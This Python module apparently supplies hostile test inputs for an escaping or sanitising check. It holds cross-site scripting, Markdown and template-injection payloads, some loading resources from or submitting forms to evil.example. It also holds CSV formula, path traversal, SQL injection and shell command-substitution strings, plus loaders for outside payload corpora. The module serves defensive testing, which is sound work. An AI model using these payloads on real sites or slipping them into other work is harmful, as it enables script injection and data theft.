"""Texts that want to be more than text: a strong handful of our own, and the corpora beside the checkout."""

# ruff: noqa: E501  a payload is one line

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

CORPORA = Path(__file__).resolve().parents[3] / "shared" / "corpora"
ABSENT = "the shared corpora are not beside the checkout"

RUN = "window.ran=(window.ran||0)+1"
PRODUCT = str(1187 * 1193)
"""What a template that evaluated one of the payloads below would print."""

OWN = {
    "element": f"<img src=x onerror={RUN}>",
    "script": f"</script></style></title></textarea><script>{RUN}</script>",
    "attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" tabindex="1" x="',
    "single quotes": f"' onmouseover='{RUN}' style='background:url(//evil.example)",
    "no quotes": f"x onmouseover={RUN} style=position:fixed;inset:0 autofocus onfocus={RUN} ",
    "drawing": f"</text></svg><svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
    "comment": f"--><svg/onload={RUN}><!--",
    "end of data": f"]]>--!></p></div><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "address": f"javascript:{RUN}",
    "hidden address": f"jAvA\tsCrIpT&colon;{RUN}",
    "page as address": f"data:text/html,<script>{RUN}</script>",
    "other host": "//evil.example/x.png",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;&#x3c;img src=x onerror={RUN}&#x3e;&quot; onclick=&quot;{RUN}",
    "style": "}</style><style>@import url(//evil.example/x.css);*{background:url(//evil.example/y)}",
    "style value": 'red;background:url(//evil.example/z)"\\22 \\a }*{content:url(//evil.example/w)}/*',
    "form": f'<form action=//evil.example><button autofocus onfocus="{RUN}">x<base href=//evil.example>',
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example>",
    "change of parser": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "no script": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "old encoding": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "signs that vanish": f"<\x00script\x0b>{RUN}</\x00script>\u2028\u2029\u202e\ufeff\u200b\r\n<img\x0csrc=x\x0conerror={RUN}>",
    "braces": "{{1187*1193}}{{ 1187*1193 }}{{config}}{{''.__class__.__mro__}}{{ cycler.__init__.__globals__ }}",
    "statement": "{% print(1187*1193) %}{% for x in y %}{# 1187*1193 #}\n# for x in y",
    "dollar": "${1187*1193}$((1187*1193))$1187*1193$`1187*1193`$\\frac{1}{0}$",
    "other templates": "#{1187*1193}<%= 1187*1193 %>@(1187*1193)[[1187*1193]]*{1187*1193}<? print 1187*1193 ?>~{1187*1193}",
    "format": "{0.__class__}{value.__init__.__globals__}%(x)s%s%n%d{value!r:>99999999}",
}  # fmt: skip

MARKDOWN = {
    "link": f"[a](javascript:{RUN}) [a]( javascript:{RUN}) [a](<javascript:{RUN}>) [a](JaVaScRiPt:{RUN})",
    "coded link": f"[a](&#106;avascript:{RUN}) [a](java&Tab;script:{RUN}) [a](javascript&colon;{RUN}) [a](java\\script:{RUN})",
    "page": f"[a](data:text/html,<script>{RUN}</script>) [a](vbscript:{RUN}) [a](file:///etc/passwd) [a](blob:x)",
    "relative": "[a](//evil.example) [a](/etc/passwd) [a](x.html) [a](?x) [a](http://evil.example) [a](ftp://evil.example)",
    "image": "![a](https://evil.example/a.png) ![a](data:image/svg+xml,<svg/onload=1>) [![a](//evil.example/b)](https://a.example)",
    "reference": f"[a] ![a]\n\n[a]: javascript:{RUN} \"x\" onclick='{RUN}'",
    "autolink": f"<javascript:{RUN}> <https://a.example/\"onclick={RUN}> <https://a.example/'onclick={RUN}> <a@b.example>",
    "attribute of a link": f"[a](https://a.example \"x\" onclick=\"{RUN}\") [a](https://a.example/\"onclick='{RUN}') [a](https://a.example '\"><img src=x onerror={RUN}>')",
    "link in a link": f"[a [b](https://b.example) <img src=x onerror={RUN}>](javascript:{RUN}) [](https://a.example/<th>x<img src=x>)",
    "block of html": f"<div onclick={RUN}>\n<script>{RUN}</script>\n</div>\n\n<!-- x --><details open ontoggle={RUN}>x</details>",
    "heading": f"# <img src=x onerror={RUN}>\n\n<h2>x</h2>\n\n<script>{RUN}</script>\n---",
    "code": f"`<img src=x onerror={RUN}>`\n\n```html\"onclick={RUN}\n</code></pre><script>{RUN}</script>\n```\n\n    <script>{RUN}</script>",
    "table": f"| a<img src=x onerror={RUN}> | b |\n|:-:|--:|\n| <script>{RUN}</script> | [a](javascript:{RUN}) |",
    "list": f"- <svg onload={RUN}>\n  3. > <iframe src=javascript:{RUN}>\n\n- [ ] x",
    "emphasis": f"***<b onclick={RUN}>x</b>*** ~~<s onclick={RUN}>x</s>~~ __<u style=x:y>x</u>__",
    "place of a figure": "\ue0000\ue001 \ue00099\ue001 &#xe000;0&#xe001; &#xe000;99&#xe001; [a](https://a.example/\ue0000\ue001) {{claim:}} {{ 1187*1193 }}",
}  # fmt: skip
"""What only a comment can try, since it alone may hold Markdown."""


ODD = (
    "null", "NULL", "None", "undefined", "NaN", "n/a", "nil", "true", "0", "-1", "1E2", "1,5", "1.204,50", "01/02/2026", "0x1F",
    "=1+1", "+1", "-1+2", "@SUM(A1)", "'123 a", '"', '""', "a,b;c\td|e", "line\nbreak", "back\\slash", "\u202egnippihs", "e\u0301", "ﷺ",
    "🇪🇸👩\u200d👩\u200d👧", "Ω≈ç√∫˜µ≤≥÷", "مُنَاقَشَةُ", "../../etc/passwd", "C:\\con\\nul.txt", "con", "; DROP TABLE ads;--", "%s%n{0}", "$(touch x)`touch y`",
    "_x0041_", "a" * 300, "{}", "[]", "#REF!", "\u00a0 \u3000x\u2003",
)  # fmt: skip
"""Names that readers take for nothing, a number, a date, a formula, a path or a command."""


def naughty() -> list[str]:
    """The strings of the big list; none unless the whole is asked for, or where it is not there."""
    if os.environ.get("HOSTILE") != "all":
        return []
    return [text for path in sorted(CORPORA.glob("blns/*.json")) for text in json.loads(path.read_text("utf-8"))]


def corpora() -> list[str]:
    """Every text of the corpora for pages, each once, in order; none where they are not there."""
    return list(dict.fromkeys(text for text in _texts() if text.strip()))


def drawings() -> list[str]:
    """Every drawing of the corpora, and every text of theirs that holds one."""
    files = [path.read_text("utf-8", errors="replace") for path in sorted(CORPORA.glob("payloads/*/Files/*"))]
    return [*files, *(text for text in corpora() if "<svg" in text.lower())]


def _texts() -> Iterator[str]:
    lists = ("xss-list/*.txt", "csv-injection/*.txt", "payloads/*/Intruder*/*.txt", "payloads/*/Files/*")
    for path in sorted(path for pattern in lists for path in CORPORA.glob(pattern)):
        yield from path.read_text("utf-8", errors="replace").split("\n")
    naughty = CORPORA / "blns" / "blns.json"
    if naughty.is_file():
        yield from json.loads(naughty.read_text("utf-8"))
